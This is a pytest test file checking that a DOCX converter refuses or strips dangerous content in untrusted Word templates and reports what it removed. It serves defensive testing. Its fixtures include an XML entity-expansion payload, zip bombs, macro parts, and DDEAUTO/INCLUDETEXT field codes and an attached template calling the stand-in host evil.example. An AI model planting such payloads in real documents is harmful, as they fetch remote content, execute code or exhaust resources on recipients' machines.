"""A template may come from a stranger: what acts, fetches or swells is refused or left behind, and told."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest

from convert.diagnostics import Code, Findings, Severity
from convert.errors import BookError
from convert.verify.docx_lint import lint_docx
from convert.writers.docx import DocxWriter
from convert.writers.docx.template import opening
from tests.writers.docx.sample import Package, feature_book, heading, manuscript, para
from tests.writers.docx.template.made import (
    SPACES,
    drawing,
    dressed,
    field,
    headed,
    relations,
    style,
    styles,
    template,
)

BOOK = (heading(1, "山"), para("文"))


def dropped(findings: Findings) -> str:
    return "; ".join(f.message for f in findings if f.code is Code.TEMPLATE_DROPPED)


def everything(made: Package) -> str:
    return "".join(made.zip.read(name).decode("utf-8", "replace") for name in made.zip.namelist())


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "no Word file"),
        (b"PK\x03\x04 broken", "no Word file"),
        (b"\xd0\xcf\x11\xe0" + b"\0" * 600, "password"),
        (template({"word/styles.xml": "<w:styles"}), "not well-formed"),
        (template({"word/styles.xml": b"\xff\xfe\x00"}), "not well-formed"),
        (template({"_rels/.rels": relations()}), "no main part"),
        (template({"word/document.xml": "<x/>"}), "no Word file"),
        (template({"word/document.xml": '<d:document xmlns:d="http://purl.oclc.org/ooxml/wordprocessingml/main"/>'}),
         "strict"),
        (template({"word/_rels/document.xml.rels": relations()}), "no styles"),
    ],
)  # fmt: skip
def test_a_broken_template_is_an_error_with_a_way_out(data: bytes, words: str) -> None:
    with pytest.raises(BookError, match=words) as caught:
        dressed(manuscript(*BOOK), data)
    assert caught.value.finding.code is Code.TEMPLATE_UNREADABLE
    assert caught.value.finding.place.file == "house.docx" and caught.value.finding.hint


def test_entities_are_refused() -> None:
    lol = '<!DOCTYPE s [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
    with pytest.raises(BookError, match="document type"):
        dressed(manuscript(*BOOK), template({"word/styles.xml": f"{lol}<w:styles{SPACES}>&b;</w:styles>"}))


def test_a_bomb_is_defused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(opening, "MAX_PART", 1 << 20)
    bomb = template({"word/styles.xml": f"<w:styles{SPACES}>" + " " * (2 << 20) + "</w:styles>"})
    assert len(bomb) < 1 << 16
    with pytest.raises(BookError, match="unpacks to too much"):
        dressed(manuscript(*BOOK), bomb)


def test_a_size_that_lies_is_not_believed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(opening, "MAX_PART", 1 << 20)
    bomb = bytearray(template({"word/styles.xml": f"<w:styles{SPACES}>" + " " * (2 << 20) + "</w:styles>"}))
    with zipfile.ZipFile(io.BytesIO(bytes(bomb))) as archive:
        told = archive.getinfo("word/styles.xml").file_size
    lying = bytes(bomb).replace(told.to_bytes(4, "little"), (100).to_bytes(4, "little"))
    with pytest.raises(BookError):
        dressed(manuscript(*BOOK), lying)


def test_many_parts_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(opening, "MAX_MEMBERS", 20)
    with pytest.raises(BookError, match="more than 20 parts"):
        dressed(manuscript(*BOOK), template({f"word/x{n}.xml": "<x/>" for n in range(30)}))


def test_macros_templates_and_objects_stay_behind_and_are_told() -> None:
    findings = Findings()
    data = template(
        {
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro",
            "word/settings.xml": f'<w:settings{SPACES}><w:attachedTemplate r:id="t"/></w:settings>',
            "word/_rels/settings.xml.rels": relations(
                ("t", "attachedTemplate", "https://evil.example/x.dotm"), outside=("t",)
            ),
            "word/_rels/document.xml.rels": relations(
                ("s", "styles", "styles.xml"), ("e", "settings", "settings.xml"),
                ("v", "vbaProject", "vbaProject.bin"), ("o", "oleObject", "embeddings/o.bin"),
            ),
            "word/embeddings/o.bin": b"ole",
        }
    )  # fmt: skip
    made = dressed(feature_book(), data, findings)
    assert (
        "macros" in dropped(findings)
        and "attached to" in dropped(findings)
        and "objects" in dropped(findings)
    )
    assert all(f.severity is Severity.WARNING for f in findings if f.code is Code.TEMPLATE_DROPPED)
    assert "evil.example" not in everything(made)
    assert not [name for name in made.zip.namelist() if "vba" in name or "embeddings" in name]


def test_a_harmless_template_has_nothing_to_tell() -> None:
    findings = Findings()
    dressed(feature_book(), headed("<w:r><w:t>题</w:t></w:r>"), findings)
    assert dropped(findings) == ""


@pytest.mark.parametrize(
    "header",
    [
        field("INCLUDETEXT https://evil.example/a.docx", "旧"),
        field('INCLUDEPICTURE "https://evil.example/a.png"', "旧"),
        field(f"IF 1 = 1 {field('DDEAUTO evil.example', '')}", "旧"),
        '<w:fldSimple w:instr=" LINK Excel.Sheet evil.example "><w:r><w:t>旧</w:t></w:r></w:fldSimple>',
        '<w:hyperlink r:id="x"><w:r><w:t>旧</w:t></w:r></w:hyperlink>',
        drawing("x") + "<w:r><w:t>旧</w:t></w:r>",
        drawing("svg") + "<w:r><w:t>旧</w:t></w:r>",
        drawing("lost") + "<w:r><w:t>旧</w:t></w:r>",
        '<w:r><w:object><w:control r:id="x"/></w:object></w:r><w:r><w:t>旧</w:t></w:r>',
        '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/evil.example" w:storeItemID="{1}"/></w:sdtPr><w:sdtContent>'
        "<w:r><w:t>旧</w:t></w:r></w:sdtContent></w:sdt>",
    ],
)
def test_a_head_that_acts_or_fetches_is_calmed_and_keeps_its_words(header: str) -> None:
    findings = Findings()
    links = relations(
        ("x", "image", "https://evil.example/p.png"), ("svg", "image", "media/a.svg"), outside=("x",)
    )
    data = headed(header, {"word/media/a.svg": "<svg onload='evil.example'/>"}, links)
    made = dressed(manuscript(*BOOK), data, findings)
    assert "evil.example" not in everything(made)
    assert "旧" in made.zip.read("word/header1.xml").decode()
    assert made.document is not None
    if "dataBinding" not in header:
        assert dropped(findings)


def test_ids_and_bookmarks_of_the_head_do_not_clash_with_ours() -> None:
    header = '<w:bookmarkStart w:id="1" w:name="_Toc1"/><w:r><w:t>题</w:t></w:r><w:bookmarkEnd w:id="1"/>'
    made = dressed(manuscript(*BOOK), headed(header))
    assert "bookmark" not in made.zip.read("word/header1.xml").decode()


@pytest.mark.parametrize(
    "header",
    [
        '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t>旧</w:t></w:r>',
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:t>旧</w:t></w:r>',
        '<w:r><w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="end"/><w:t>旧</w:t></w:r>',
        '<w:r><w:rPr><w:rStyle w:val="nowhere"/></w:rPr><w:t>旧</w:t></w:r>',
        "<w:r><w:rPr><w:rStyle/></w:rPr><w:t>旧</w:t></w:r>",
    ],
)
def test_a_head_with_half_a_field_or_a_style_that_is_not_there_is_mended(header: str, tmp_path: Path) -> None:
    path = tmp_path / "f.docx"
    path.write_bytes(dressed(manuscript(*BOOK), headed(header)).data)
    assert lint_docx(path) == ()
    with zipfile.ZipFile(path) as archive:
        assert "旧" in archive.read("word/header1.xml").decode()


@pytest.mark.parametrize(
    "inner",
    [
        '<w:pPr><w:style w:styleId="a"/><w:jc w:val="left"/></w:pPr>',
        '<w:rPr><w:i/><w:b/><w:rFonts w:eastAsia="宋体"/><w:nonsense/></w:rPr><w:pPr/><w:basedOn w:val="a"/>',
        '<w:pPr><w:numPr><w:numId w:val="99"/></w:numPr><w:numPr><w:ilvl w:val="3"/></w:numPr></w:pPr>',
        '<w:basedOn w:val="x"/><w:basedOn w:val="a"/><w:link w:val=""/><w:next/>',
    ],
)
def test_a_style_out_of_order_is_put_in_order(inner: str, tmp_path: Path) -> None:
    data = template({"word/styles.xml": styles(style("a", "Normal"), style("x", "Body Text", inner))})
    path = tmp_path / "f.docx"
    path.write_bytes(dressed(manuscript(*BOOK), data).data)
    assert lint_docx(path) == ()


def test_a_file_of_quires_own_is_a_template_that_lacks_nothing() -> None:
    findings = Findings()
    own = DocxWriter().write(feature_book(), Findings())
    dressed(feature_book(), own, findings)
    assert list(findings) == []
